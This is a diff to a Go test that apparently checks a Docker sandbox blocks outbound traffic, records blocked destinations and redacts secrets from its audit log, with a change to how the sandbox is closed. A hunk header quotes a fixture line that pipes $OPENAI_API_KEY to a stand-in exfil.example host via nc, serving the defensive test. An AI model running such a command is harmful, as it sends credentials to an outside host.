@@ -15,7 +15,7 @@ import (
 // and lists their destinations; a secret the code puts into a name it looks
 // up is redacted there like anywhere else. Learn is the same, recorded.
 func TestDocker_BlockedEgressInTheAuditRecord(t *testing.T) {
-	needDocker(t)
+	cli := needDocker(t)
 	for _, mode := range []string{model.EgressDeny, model.EgressLearn} {
 		t.Run(mode, func(t *testing.T) {
 			t.Parallel()
@@ -37,9 +37,7 @@ printf 'GET / HTTP/1.1\r\nHost: %s.exfil.example\r\n\r\n' "$OPENAI_API_KEY" | nc
 			if err != nil || !strings.HasSuffix(string(res.Stdout), "done\n") {
 				t.Fatalf("run: %+v %v", res, err)
 			}
-			if err := sb.Close(context.Background()); err != nil {
-				t.Fatal(err)
-			}
+			closeErr := closedEventually(t, cli, sb)
 			text := audit.String()
 			if strings.Contains(strings.ToLower(text), strings.ToLower(canary)) {
 				t.Fatalf("the audit log holds the secret:\n%s", text)
@@ -65,7 +63,7 @@ printf 'GET / HTTP/1.1\r\nHost: %s.exfil.example\r\n\r\n' "$OPENAI_API_KEY" | nc
 			if n < 4 || !seen["dns pypi.org"] || !seen["dns [REDACTED].evil.example"] || !seen["tcp 1.1.1.1"] || !seen["http [REDACTED].exfil.example1.1.1.1"] {
 				t.Fatalf("exec record: blocked_egress %v, destinations %v", run["blocked_egress"], dests)
 			}
-			if last := recs[len(recs)-1]; last["event"] != "killed" || last["blocked_egress"].(float64) < n {
+			if last := recs[len(recs)-1]; last["event"] != closeEvent(closeErr) || last["blocked_egress"].(float64) < n {
 				t.Fatalf("close record: %v", last)
 			}
 		})
